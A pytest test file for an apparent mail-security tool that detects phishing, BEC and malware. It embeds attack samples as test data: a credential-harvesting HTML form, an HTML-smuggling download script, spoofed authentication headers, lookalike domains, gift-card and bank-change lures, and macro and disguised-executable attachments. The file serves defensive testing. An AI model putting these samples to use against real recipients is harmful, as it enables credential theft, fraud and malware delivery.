"""Each inbound signal fires on the mail it describes and stays silent on honest mail; the
verdict names the right class; the registry, sentences, history store and CLI hold together.

Mails are built here (a small factory), for an organisation "Sakura City" (sakura-city.jp)
that protects its mayor 山田 太郎 (Taro Yamada) and works with the partner supplier.co.jp.
"""

from __future__ import annotations

import base64
import dataclasses
import io
import json
import os
import struct
import zipfile
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from mailwarden.cli.main import app
from mailwarden.config import Config, InboundSignals, load
from mailwarden.inbound import qr, texts, urls
from mailwarden.inbound.analyze import InboundContext, analyze_message, remember
from mailwarden.inbound.history import MemoryHistory
from mailwarden.inbound.signals import INBOUND
from mailwarden.inbound.signals.base import KINDS
from mailwarden.inbound.verdict import Verdict
from mailwarden.store.inbound_store import StoreHistory
from mailwarden.store.store import Store

ORG = """
[organization]
domains = ["sakura-city.jp"]

[inbound]
authserv_ids = ["mx.sakura-city.jp"]
people = ["t.yamada@sakura-city.jp: 山田 太郎 | やまだ たろう | Taro Yamada", "Ian Thiel"]
organization_names = ["さくら市役所", "Sakura City Hall"]
partner_domains = ["supplier.co.jp"]
warm_messages = 3
"""
STRICT = os.environ.get("MAILWARDEN_STRICT") == "1"


@pytest.fixture(scope="module")
def cfg(tmp_path_factory: pytest.TempPathFactory) -> Config:
    path = tmp_path_factory.mktemp("cfg") / "mailwarden.toml"
    path.write_text(ORG, encoding="utf-8")
    return load(path)


@pytest.fixture(scope="module")
def ctx(cfg: Config) -> InboundContext:
    return InboundContext.create(cfg)


def mail(sender: str = "Hanako Sato <h.sato@partner-firm.example>",
         to: str = "t.suzuki@sakura-city.jp", subject: str = "打ち合わせの件",
         text: str = "いつもお世話になっております。来週の打ち合わせの件です。",
         html: str = "", headers: dict[str, str] | None = None,
         files: list[tuple[str, bytes, str]] | None = None, charset: str = "utf-8") -> bytes:
    """A message: headers, a text (and HTML) body, attachments."""
    head = {"From": sender, "To": to, "Subject": subject, "Date": "Mon, 6 Oct 2025 09:00:00 +0900",
            "Message-ID": "<1@partner-firm.example>", "MIME-Version": "1.0", **(headers or {})}
    lines = [f"{k}: {v}" for k, v in head.items() if v]
    parts = [(f"text/plain; charset={charset}", text.encode(charset, "replace"), "")]
    if html:
        parts.append(("text/html; charset=utf-8", html.encode(), ""))
    for name, data, ctype in files or []:
        parts.append((ctype, data, name))
    out = "\r\n".join([*lines, "Content-Type: multipart/mixed; boundary=BOUND", "", ""]).encode()
    for ctype, data, name in parts:
        out += b"--BOUND\r\nContent-Type: " + ctype.encode()
        if name:
            out += f'; name="{name}"\r\nContent-Disposition: attachment; filename="{name}"'.encode()
        out += b"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(data)
    return out + b"--BOUND--\r\n"


def judge(raw: bytes, ctx: InboundContext, **changes: Any) -> Verdict:
    return analyze_message(raw, dataclasses.replace(ctx, **changes) if changes else ctx)


def signals(verdict: Verdict) -> dict[str, dict[str, Any]]:
    return {r.signal: r.evidence for r in verdict.reasons}


def zipped(members: dict[str, bytes], encrypted: bool = False) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    raw = bytearray(buf.getvalue())
    if encrypted:  # set the "encrypted" flag as a password-protected zip has it
        for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            pos = raw.find(sig)
            while pos >= 0:
                raw[pos + off] |= 1
                pos = raw.find(sig, pos + 4)
    return bytes(raw)


def ole(names: list[str]) -> bytes:
    """A minimal OLE2 compound file whose directory holds ``names``."""
    header = bytearray(512)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIII", header, 44, 1, 1, 0, 4096)
    struct.pack_into("<IIII", header, 60, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    struct.pack_into("<109I", header, 76, 0, *([0xFFFFFFFF] * 108))
    fat = struct.pack("<128I", 0xFFFFFFFD, 0xFFFFFFFE, *([0xFFFFFFFF] * 126))
    entries = b""
    for i, name in enumerate(["Root Entry", *names][:4]):
        entry = bytearray(128)
        encoded = name.encode("utf-16-le") + b"\0\0"
        entry[0:len(encoded)] = encoded
        struct.pack_into("<HB", entry, 64, len(encoded), 5 if i == 0 else 1)
        entries += bytes(entry)
    return bytes(header) + fat + entries.ljust(512, b"\0")


# -- who sends it -------------------------------------------------------------------------

def test_trusted_authentication_failure(ctx: InboundContext) -> None:
    """DMARC failing at our own MX is a reason; the same from another authserv-id is not."""
    ours = judge(mail(headers={"Authentication-Results": "mx.sakura-city.jp; spf=fail "
                               "smtp.mailfrom=partner-firm.example; dmarc=fail "
                               "header.from=partner-firm.example"}), ctx)
    assert signals(ours)["auth_fail"]["methods"].startswith("spf, dmarc") or \
        "dmarc" in signals(ours)["auth_fail"]["methods"]
    forged = judge(mail(headers={"Authentication-Results": "mx.attacker.example; dmarc=fail"}),
                   ctx)
    assert "auth_fail" not in signals(forged)
    assert any(key == "no_auth" for key, _ in forged.notes)


def test_forged_pass_from_another_authserv_id_is_ignored(ctx: InboundContext) -> None:
    """An attacker's "dmarc=pass" for our domain does not hide that our MX failed it."""
    raw = mail(sender="総務課 <somu@sakura-city.jp>", headers={
        "Authentication-Results": "mx.sakura-city.jp; spf=fail smtp.mailfrom=sakura-city.jp; "
                                  "dmarc=fail header.from=sakura-city.jp",
        "X-Forged": "x", "ARC-Authentication-Results": "i=1; mx.sakura-city.jp; dmarc=pass"})
    raw = raw.replace(b"X-Forged: x", b"Authentication-Results: mx.sakura-city.jp.evil; "
                                      b"dmarc=pass header.from=sakura-city.jp")
    found = signals(judge(raw, ctx))
    assert "own_domain_spoof" in found and "auth_fail" in found


def test_own_domain_passing_is_silent(ctx: InboundContext) -> None:
    """Our own domain with aligned DMARC pass raises nothing."""
    raw = mail(sender="総務課 <somu@sakura-city.jp>", headers={
        "Authentication-Results": "mx.sakura-city.jp; dkim=pass header.d=sakura-city.jp; "
                                  "dmarc=pass header.from=sakura-city.jp"})
    assert judge(raw, ctx).verdict == "clean"


@pytest.mark.parametrize("display", ["山田 太郎", "山田太郎 市長", "Taro Yamada", "Yamada, Taro",
                                     "YAMADA Taro (Mayor)", "Тaro Yamada", "やまだ たろう"])
def test_display_name_of_a_protected_person(ctx: InboundContext, display: str) -> None:
    """The mayor's name in Japanese or Latin script (even with a Cyrillic Т) on Gmail."""
    found = signals(judge(mail(sender=f'"{display}" <mayor.sakura@gmail.com>'), ctx))
    assert found["display_name_person"]["person"] == "山田 太郎"
    assert "freemail_claim" in found


def test_display_name_of_the_real_person_is_silent(ctx: InboundContext) -> None:
    """The mayor writing from the mayor's own address is the mayor."""
    raw = mail(sender="山田 太郎 <t.yamada@sakura-city.jp>")
    assert "display_name_person" not in signals(judge(raw, ctx))


def test_display_name_word_boundaries(ctx: InboundContext) -> None:
    """"Brian Thielen" does not contain the protected "Ian Thiel"."""
    raw = mail(sender="Brian Thielen <brian@thielen.example>")
    assert "display_name_person" not in signals(judge(raw, ctx))


def test_display_name_claims_the_organisation(ctx: InboundContext) -> None:
    """さくら市役所 in the display name from outside is impersonation of the organisation."""
    found = signals(judge(mail(sender="さくら市役所 総務課 <info@sakura-notice.example>"), ctx))
    assert found["display_name_org"]["claim"] == "さくら市役所"


def test_display_name_shows_another_address(ctx: InboundContext) -> None:
    """An address in the display name that is not the sender's."""
    raw = mail(sender='"somu@sakura-city.jp" <x1@mail.example.net>')
    found = signals(judge(raw, ctx))
    assert found["display_name_address"]["shown"] == "somu@sakura-city.jp"
    assert "display_name_org" in found


@pytest.mark.parametrize(("sender", "where"), [
    ("Amazon <billing.amazon@gmail.com>", "display name"),
    ("Tracking <track@deliver-fedex.example>", "domain"),
    ("三井住友銀行 <info@smbc-security.example>", "domain"),
    ("ゆうちょ銀行 <info@yucho-check.example>", "display name"),
    ("Support <paypal.support@mailer.example>", "address"),
])
def test_brand_impersonation(ctx: InboundContext, sender: str, where: str) -> None:
    """A brand named by someone who is not the brand."""
    found = signals(judge(mail(sender=sender), ctx))
    assert found["brand_impersonation"]["where"] == where


@pytest.mark.parametrize("sender", ["Amazon.co.jp <auto-confirm@amazon.co.jp>",
                                    "PayPay <info@mail.paypay.ne.jp>",
                                    "Yahoo! JAPAN <info@mail.yahoo.co.jp>"])
def test_brands_sending_as_themselves_are_silent(ctx: InboundContext, sender: str) -> None:
    """Brands from their own domains are neither impersonation nor lookalikes."""
    found = signals(judge(mail(sender=sender), ctx))
    assert not {"brand_impersonation", "lookalike_domain"} & set(found)


def test_freemail_signing_as_the_organisation(ctx: InboundContext) -> None:
    """Free mail signed "さくら市役所" claims the organisation."""
    raw = mail(sender="Sato <sato.h@yahoo.co.jp>",
               text="ご確認ください。\n\nさくら市役所 会計課 佐藤")
    assert signals(judge(raw, ctx))["freemail_claim"]["claim"] == "さくら市役所"


@pytest.mark.parametrize(("domain", "how"), [
    ("sakura-clty.jp", "typo"), ("ѕakura-city.jp", "homograph"), ("sakura-city.co", "suffix"),
    ("supp1ier.co.jp", "homograph"), ("rnicrosoft.com", "homograph"),
    ("sakura-city-jp.example", "combined"),
])
def test_lookalike_sender_domains(ctx: InboundContext, domain: str, how: str) -> None:
    """Domains imitating ours, a partner's or a brand's (TR39 skeleton, typos, suffix)."""
    found = signals(judge(mail(sender=f"Accounts <billing@{domain}>"), ctx))
    assert found["lookalike_domain"]["how"] == how


def test_lookalike_reply_to(ctx: InboundContext) -> None:
    """A lookalike in Reply-To counts as well."""
    raw = mail(headers={"Reply-To": "billing@supplier-co.jp.example"})
    raw = mail(headers={"Reply-To": "billing@suppller.co.jp"})
    assert signals(judge(raw, ctx))["lookalike_domain"]["header"] == "Reply-To"


def test_honest_domains_are_not_lookalikes(ctx: InboundContext) -> None:
    """Short honest names near brands (paypay, apply, adore) are not flagged."""
    for domain in ("apply.example", "adore.example", "sakura.example", "city.example"):
        raw = mail(sender=f"x <a@{domain}>")
        assert "lookalike_domain" not in signals(judge(raw, ctx)), domain


def test_idn_mixing_scripts(ctx: InboundContext) -> None:
    """Latin and Cyrillic in one label is never honest."""
    mixed = urls.to_ascii("pаypal.example")  # a Cyrillic а among Latin letters
    found = signals(judge(mail(sender=f"Support <help@{mixed}>"), ctx))
    assert "idn_homograph" in found


def test_idn_imitating_the_ascii_name_it_shows(ctx: InboundContext) -> None:
    """robínhood.com named "Robinhood" imitates robinhood.com; müller.example as Müller does
    not."""
    fake = signals(judge(mail(sender="Robinhood <support@xn--robnhood-e2a.com>"), ctx))
    assert fake["idn_homograph"]["imitated"] == "robinhood.com"
    honest = judge(mail(sender="Müller GmbH <info@xn--mller-kva.example>"), ctx)
    assert honest.verdict == "clean"


def test_japanese_idn_is_honest(ctx: InboundContext) -> None:
    """A Japanese domain name (Han and Hiragana together) is allowed."""
    raw = mail(sender="案内 <info@xn--u9j5h1btf1e.jp>")
    assert "idn_homograph" not in signals(judge(raw, ctx))


def test_reply_to_elsewhere(ctx: InboundContext) -> None:
    """Replies diverted to free mail; a mailing list's Reply-To is normal."""
    raw = mail(headers={"Reply-To": "h.sato.finance@gmail.com"})
    assert "reply_to_mismatch" in signals(judge(raw, ctx))
    listed = mail(headers={"Reply-To": "list@lists.example", "List-Id": "<l.lists.example>"})
    assert "reply_to_mismatch" not in signals(judge(listed, ctx))


def test_return_path_mismatch(ctx: InboundContext) -> None:
    """A partner's From with bounces to Gmail."""
    raw = mail(sender="経理部 <keiri@supplier.co.jp>",
               headers={"Return-Path": "<supplier.keiri@gmail.com>"})
    assert "return_path_mismatch" in signals(judge(raw, ctx))


# -- where its links go ----------------------------------------------------------------------

def linked(html: str, ctx: InboundContext, **kw: Any) -> dict[str, dict[str, Any]]:
    return signals(judge(mail(html=html, **kw), ctx))


def test_link_text_showing_another_domain(ctx: InboundContext) -> None:
    """Text shows the city's site, the link goes elsewhere."""
    found = linked('<a href="https://login.attacker.example/">https://www.sakura-city.jp/</a>',
                   ctx)
    assert "www.sakura-city.jp" in found["link_text_mismatch"]["links"]
    same = linked('<a href="https://www.sakura-city.jp/news">sakura-city.jp</a>', ctx)
    assert "link_text_mismatch" not in same


def test_link_to_ip_address(ctx: InboundContext) -> None:
    """Links to bare IP addresses, also written as one decimal number."""
    found = linked('<a href="http://3221225985/login">login</a>', ctx)
    assert found["link_ip"]["addresses"] == "192.0.2.1"


def test_link_userinfo(ctx: InboundContext) -> None:
    """https://www.sakura-city.jp@attacker/ goes to the attacker."""
    found = linked('<a href="https://www.sakura-city.jp@attacker.example/x">x</a>', ctx)
    assert "link_userinfo" in found


def test_shortener_and_suspicious_tld(ctx: InboundContext) -> None:
    """Shortened links and much-abused TLDs."""
    found = linked('<a href="https://bit.ly/abc">a</a><a href="https://pay.example.top/">b</a>',
                   ctx)
    assert "link_shortener" in found and "link_suspicious_tld" in found


def test_link_to_lookalike_domain(ctx: InboundContext) -> None:
    """Our domain put in front of another one is a lookalike link."""
    found = linked('<a href="https://sakura-city.jp.account-check.example/">確認</a>', ctx)
    assert found["link_lookalike"]["how"] == "prefix"


def test_phishing_feed(cfg: Config, tmp_path: Path) -> None:
    """A link listed in an OpenPhish-style feed or a PhishTank CSV is phishing."""
    (tmp_path / "op.txt").write_text("https://evil.example/wp/office365/auth.php\n")
    (tmp_path / "pt.csv").write_text("phish_id,url,online\n1,http://bad.example/signin.php,yes\n")
    feeds = dataclasses.replace(cfg.inbound, url_feeds=[str(tmp_path / "op.txt"),
                                                        str(tmp_path / "pt.csv")])
    context = InboundContext.create(dataclasses.replace(cfg, inbound=feeds))
    for url in ("https://evil.example/wp/office365/auth.php", "http://bad.example/signin.php"):
        verdict = judge(mail(html=f'<a href="{url}">open</a>'), context)
        assert verdict.verdict == "phishing" and "phishing_feed" in signals(verdict)


def test_credential_form_in_html_attachment(ctx: InboundContext) -> None:
    """An HTML attachment asking for a password."""
    page = b"<html><form action='https://collect.example/p'><input name=email>" \
           b"<input type=password name=pw></form></html>"
    verdict = judge(mail(files=[("Invoice.html", page, "text/html")]), ctx)
    assert signals(verdict)["credential_form"]["where"] == "Invoice.html"


def test_html_attachment_redirecting(ctx: InboundContext) -> None:
    """An HTML attachment that moves the browser elsewhere."""
    page = b"<html><script>window.location.href='https://x.example/'+atob('YQ==')</script>"
    found = signals(judge(mail(files=[("doc.htm", page, "text/html")]), ctx))
    assert found["html_redirect"]["how"] == "script"


def test_html_smuggling(ctx: InboundContext) -> None:
    """A page that assembles a download from base64 inside the browser."""
    page = (b"<html><script>var b = new Blob([Uint8Array.from(atob(d), c => c.charCodeAt(0))]);"
            b"var a = document.createElement('a'); a.href = URL.createObjectURL(b);"
            b"a.download = 'invoice.iso'; a.click();</script></html>")
    verdict = judge(mail(files=[("scan.html", page, "text/html")]), ctx)
    assert "html_smuggling" in signals(verdict)
    assert verdict.verdict == "malware"


def _qr_png(text: str) -> bytes:
    import zxingcpp
    from PIL import Image

    image = zxingcpp.write_barcode_to_image(
        zxingcpp.create_barcode(text, zxingcpp.BarcodeFormat.QRCode), scale=4)
    view = memoryview(image)
    buf = io.BytesIO()
    Image.frombytes("L", (view.shape[1], view.shape[0]), bytes(view)).save(buf, "PNG")
    return buf.getvalue()


def test_qr_code_in_image(ctx: InboundContext) -> None:
    """A QR code leading to a login page is read and judged like a link."""
    if not qr.available():
        if STRICT:
            pytest.fail("pillow and zxing-cpp are needed for QR decoding")
        pytest.skip("QR decoding libraries not installed")
    png = _qr_png("https://mfa-renew.example/login")
    verdict = judge(mail(text="多要素認証の期限が切れます。至急QRコードから更新してください。",
                         files=[("qr.png", png, "image/png")]), ctx)
    assert "mfa-renew.example" in signals(verdict)["qr_code"]["codes"]


def test_qr_unavailable_is_said(ctx: InboundContext, monkeypatch: pytest.MonkeyPatch) -> None:
    """Without the QR libraries, the verdict says how many images went unread."""
    monkeypatch.setattr(qr, "available", lambda: False)
    verdict = judge(mail(files=[("x.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 64, "image/png")]), ctx)
    assert ("qr_unavailable", {"count": "1"}) in verdict.notes


# -- what it says ---------------------------------------------------------------------------

@pytest.mark.parametrize(("text", "category"), [
    ("お客様のアカウントは一時停止されました。", "account_suspension"),
    ("Your mailbox password expires today. Keep your current password here.", "password_expiry"),
    ("至急ご対応ください。", "urgent_action"),
    ("振込先口座が変更になりましたのでご注意ください。", "bank_change"),
    ("Please find the overdue invoice attached.", "invoice"),
    ("おめでとうございます！賞金10万円にご当選しました。", "prize"),
    ("給付型奨学金の申請フォームです。", "scholarship"),
    ("Are you at your desk? I need a quick favor.", "bec_opener"),
    ("iTunesカードを5枚購入してください。ギフトカード番号を送ってください。", "gift_card"),
])
def test_lure_language(ctx: InboundContext, text: str, category: str) -> None:
    """Lures in Japanese and English are found by category."""
    found = signals(judge(mail(text=text), ctx))
    assert category in found["lure_language"]["categories"]


def test_ordinary_japanese_business_mail_is_clean(ctx: InboundContext) -> None:
    """An ordinary ISO-2022-JP mail about a meeting and a quotation is clean."""
    text = ("株式会社サプライヤー 営業部の佐藤です。\n先日はありがとうございました。\n"
            "ご依頼の見積書を添付いたします。ご査収のほどよろしくお願いいたします。\n"
            "弊社サイト：https://www.supplier.co.jp/\n")
    raw = mail(sender="佐藤 花子 <h.sato@supplier.co.jp>", subject="見積書送付の件",
               text=text, charset="iso-2022-jp",
               files=[("見積書.pdf", b"%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF", "application/pdf")])
    assert judge(raw, ctx).verdict == "clean"


def test_payment_change_from_a_new_sender(cfg: Config) -> None:
    """A bank change request from someone the recipient never heard from is BEC."""
    history = MemoryHistory()
    for i in range(5):
        history.record("t.suzuki@sakura-city.jp", f"known{i}@supplier.co.jp", 1.0, links=False,
                       payment=False)
    context = InboundContext.create(cfg, history)
    raw = mail(sender="経理部 <keiri@supplier-billing.example>", subject="振込先変更のお知らせ",
               text="弊社の振込先口座が変更になりました。今月分のお支払いは新しい口座へお願いします。")
    verdict = judge(raw, context)
    assert signals(verdict)["payment_change"]["why"] == "new_sender"
    assert "first_time_sender" in signals(verdict)
    assert verdict.verdict == "bec"


def test_payment_change_in_a_fake_reply(ctx: InboundContext) -> None:
    """"Re:" without any thread, asking to pay to a new account."""
    raw = mail(subject="Re: 請求書の件", text="Our bank details have changed; please use the new "
               "account for this payment.")
    assert signals(judge(raw, ctx))["payment_change"]["why"] == "fake_reply"


def test_known_correspondent_suddenly_sending_links(cfg: Config) -> None:
    """A partner who never sent links now sends one: a hijacked partner."""
    history = MemoryHistory()
    for _ in range(10):
        history.record("t.suzuki@sakura-city.jp", "h.sato@supplier.co.jp", 1.0, links=False,
                       payment=False)
    context = InboundContext.create(cfg, history)
    raw = mail(sender="佐藤 <h.sato@supplier.co.jp>",
               html='<a href="https://share.example/doc">資料はこちら</a>')
    found = signals(judge(raw, context))
    assert found["correspondent_changed"]["what"] == "links"
    assert "first_time_sender" not in found


def test_history_learns_and_recognises(cfg: Config) -> None:
    """Remembered mail makes the sender known; the outbound guard's correspondents count."""
    history = MemoryHistory()
    context = InboundContext.create(cfg, history)
    for i in range(3):
        remember(history, judge(mail(sender=f"x <a{i}@other.example>"), context), 1.0)
    assert history.received("t.suzuki@sakura-city.jp") == 3
    assert "first_time_sender" in signals(judge(mail(), context))
    history.wrote_to("t.suzuki@sakura-city.jp", "h.sato@partner-firm.example")
    assert "first_time_sender" not in signals(judge(mail(), context))


def test_store_history_and_outbound_correspondents(tmp_path: Path) -> None:
    """The store keeps inbound counts (migration 6) and reads the outbound guard's state."""
    store = Store(f"sqlite:///{tmp_path / 'mw.db'}")
    history = StoreHistory(store)
    history.record("a@sakura-city.jp", "b@x.example", 10.0, links=True, payment=False)
    history.record("a@sakura-city.jp", "b@x.example", 5.0, links=False, payment=True)
    found = history.lookup("A@sakura-city.jp", "b@x.example")
    assert found is not None and (found.messages, found.first_seen, found.last_seen) == (2, 5, 10)
    assert (found.with_links, found.with_payment) == (1, 1)
    with store.engine.begin() as conn:
        conn.exec_driver_sql(
            "INSERT INTO account_states (account, data, updated_at) VALUES (?, ?, ?)",
            ("a@sakura-city.jp", json.dumps({"baseline": {"correspondents": {"c@y.example": 1}}}),
             1.0))
    fresh = StoreHistory(store).lookup("a@sakura-city.jp", "c@y.example")
    assert fresh is not None and fresh.wrote_to and fresh.messages == 0


# -- what it carries ------------------------------------------------------------------------

def test_executable_attachment_and_inside_archive(ctx: InboundContext) -> None:
    """A program attached directly or inside a zip is malware."""
    exe = b"MZ\x90\x00" + b"\0" * 100
    for files in ([("setup.exe", exe, "application/octet-stream")],
                  [("docs.zip", zipped({"docs/readme.txt": b"x", "docs/invoice.exe": exe}),
                    "application/zip")]):
        verdict = judge(mail(files=files), ctx)
        assert verdict.verdict == "malware" and "executable_attachment" in signals(verdict)


@pytest.mark.parametrize("name", ["請求書.pdf.exe", "invoice\u202efdp.exe",
                                  "report.docx          .js"])
def test_double_extensions(ctx: InboundContext, name: str) -> None:
    """Names that disguise their type."""
    assert "double_extension" in signals(judge(mail(files=[(name, b"x", "text/plain")]), ctx))


def test_ooxml_macro(ctx: InboundContext) -> None:
    """An OOXML workbook with vbaProject.bin has macros, whatever its name."""
    book = zipped({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<w/>",
                   "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
    verdict = judge(mail(files=[("photo.jpg", book, "image/jpeg")]), ctx)
    found = signals(verdict)
    assert found["office_macro"]["how"] == "vba" and "type_mismatch" in found
    assert verdict.verdict == "malware"


def test_ole_macro(ctx: InboundContext) -> None:
    """A legacy .doc with a VBA storage has macros."""
    doc = ole(["WordDocument", "Macros", "VBA"])
    verdict = judge(mail(files=[("minutes.doc", doc, "application/msword")]), ctx)
    assert signals(verdict)["office_macro"]["how"] == "vba"


def test_ole_without_macro_is_clean(ctx: InboundContext) -> None:
    """A legacy .doc without VBA raises nothing."""
    doc = ole(["WordDocument", "1Table", "SummaryInformation"])
    assert judge(mail(files=[("minutes.doc", doc, "application/msword")]), ctx).verdict == "clean"


def test_encrypted_zip_with_password_in_mail(ctx: InboundContext) -> None:
    """An encrypted zip with its password in the same mail, holding a macro-enabled file."""
    archive = zipped({"請求書.xlsm": b"PK\x03\x04 encrypted"}, encrypted=True)
    raw = mail(text="請求書を送付します。\nパスワード：Kx8p2Q", files=[("請求書.zip", archive,
                                                                  "application/zip")])
    verdict = judge(raw, ctx)
    found = signals(verdict)
    assert found["encrypted_attachment"]["password"] == "yes"
    assert found["office_macro"]["how"] == "name"
    assert verdict.verdict == "malware"


def test_nested_archive(ctx: InboundContext) -> None:
    """A zip inside a zip."""
    inner = zipped({"a.txt": b"x"})
    found = signals(judge(mail(files=[("outer.zip", zipped({"inner.zip": inner}),
                                       "application/zip")]), ctx))
    assert "outer.zip/inner.zip" in found["nested_archive"]["files"]


def test_active_documents(ctx: InboundContext) -> None:
    """PDF JavaScript, RTF embedded objects and OOXML remote templates."""
    pdf = b"%PDF-1.7\n1 0 obj<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>endobj"
    rtf = b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105000002000000}}}"
    rels = (b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/'
            b'officeDocument/2006/relationships/attachedTemplate" TargetMode="External" '
            b'Target="https://tpl.example/t.dotm"/></Relationships>')
    docx = zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<d/>",
                   "word/_rels/settings.xml.rels": rels})
    for name, data in (("a.pdf", pdf), ("b.rtf", rtf), ("c.docx", docx)):
        assert "active_document" in signals(judge(mail(files=[(name, data, "x/y")]), ctx)), name


def test_mime_anomaly(ctx: InboundContext) -> None:
    """Parts beyond the limit are an anomaly."""
    raw = b"Content-Type: multipart/mixed; boundary=b\n\n" + b"--b\n\nx\n" * 600 + b"--b--\n"
    assert "too_many_parts" in signals(judge(raw, ctx))["mime_anomaly"]["defects"]


# -- verdicts, registry, sentences, CLI -----------------------------------------------------

def test_bec_and_phishing_are_told_apart(ctx: InboundContext) -> None:
    """The mayor's name on Gmail asking for gift cards is BEC; with a login link, phishing."""
    bec = mail(sender="山田 太郎 <mayor.sakura.jp@gmail.com>", subject="至急",
               text="今お時間ありますか。至急ギフトカードを購入してほしいです。内密にお願いします。")
    assert judge(bec, ctx).verdict == "bec"
    phish = mail(sender="山田 太郎 <mayor.sakura.jp@gmail.com>", subject="資料確認",
                 html='<a href="https://bit.ly/x">資料を確認</a>')
    assert judge(phish, ctx).verdict == "phishing"


def test_every_signal_is_registered_weighted_and_described() -> None:
    """Each signal has a unique name, a kind, a description, a weight setting and sentences."""
    names = [s.name for s in INBOUND]
    assert len(names) == len(set(names))
    weights = {f.name for f in dataclasses.fields(InboundSignals)}
    assert set(names) == weights
    for signal in INBOUND:
        assert signal.kind in KINDS and len(signal.description) > 10
        en, ja = texts.MESSAGES[signal.name]
        assert en and ja and en != ja


def test_zero_weight_switches_a_signal_off(cfg: Config) -> None:
    """A weight of 0 silences the signal."""
    off = dataclasses.replace(cfg.inbound_signals, display_name_person=0.0)
    context = InboundContext.create(dataclasses.replace(cfg, inbound_signals=off))
    raw = mail(sender="山田 太郎 <mayor.sakura@gmail.com>")
    assert "display_name_person" not in signals(judge(raw, context))


def test_sentences_in_both_languages(ctx: InboundContext) -> None:
    """Every reason carries an English and a Japanese sentence, and milter headers are ASCII."""
    verdict = judge(mail(sender="山田 太郎 <mayor.sakura@gmail.com>",
                         html='<a href="http://198.51.100.7/">x</a>'), ctx)
    for reason in verdict.reasons:
        assert reason.en and reason.ja and reason.en != reason.ja
    assert all(value.isascii() for _, value in verdict.headers())


def test_analysis_error_fails_open(ctx: InboundContext, monkeypatch: pytest.MonkeyPatch) -> None:
    """An internal error gives a clean verdict that carries the error (fail open)."""
    import mailwarden.inbound.analyze as analyze

    def broken(*_: Any, **__: Any) -> None:
        raise RuntimeError("boom")

    monkeypatch.setattr(analyze, "build", broken)
    verdict = analyze_message(mail(), ctx)
    assert verdict.verdict == "clean" and "boom" in verdict.error


def test_cli_analyze_files_folders_and_mbox(tmp_path: Path) -> None:
    """`mailwarden analyze` reads .eml files, folders and mbox files, in JSON or text."""
    (tmp_path / "cfg.toml").write_text(ORG, encoding="utf-8")
    box = tmp_path / "box"
    box.mkdir()
    (box / "a.eml").write_bytes(mail(sender="山田 太郎 <mayor.sakura@gmail.com>",
                                     text="至急ギフトカードを購入してください。"))
    (tmp_path / "inbox.mbox").write_bytes(
        b"From a@b Mon Oct  6 09:00:00 2025\n" + mail() + b"\n"
        b"From c@d Mon Oct  6 09:01:00 2025\n" + mail(subject="second") + b"\n")
    runner = CliRunner()
    args = ["analyze", str(box), str(tmp_path / "inbox.mbox"), "-c", str(tmp_path / "cfg.toml"),
            "--data-dir", str(tmp_path / "data"), "--json", "--no-history"]
    result = runner.invoke(app, args)
    assert result.exit_code == 0, result.output
    rows = [json.loads(line) for line in result.output.splitlines()]
    assert [r["verdict"] for r in rows] == ["bec", "clean", "clean"]
    assert rows[2]["file"].endswith("inbox.mbox#2")
    text = runner.invoke(app, [*args[:-2], "--lang", "en", "--no-history"])
    assert "business e-mail compromise" in text.output
    missing = runner.invoke(app, ["analyze", str(tmp_path / "nope.eml"), "--no-history"])
    assert missing.exit_code == 1


def test_every_signal_is_documented_with_its_weight() -> None:
    """docs/inbound.md lists each signal with its default weight and kind."""
    doc = (Path(__file__).resolve().parents[2] / "docs" / "inbound.md").read_text("utf-8")
    weights = {f.name: f.default for f in dataclasses.fields(InboundSignals)}
    for signal in INBOUND:
        assert f"| `{signal.name}` | {weights[signal.name]} | {signal.kind} |" in doc, signal.name
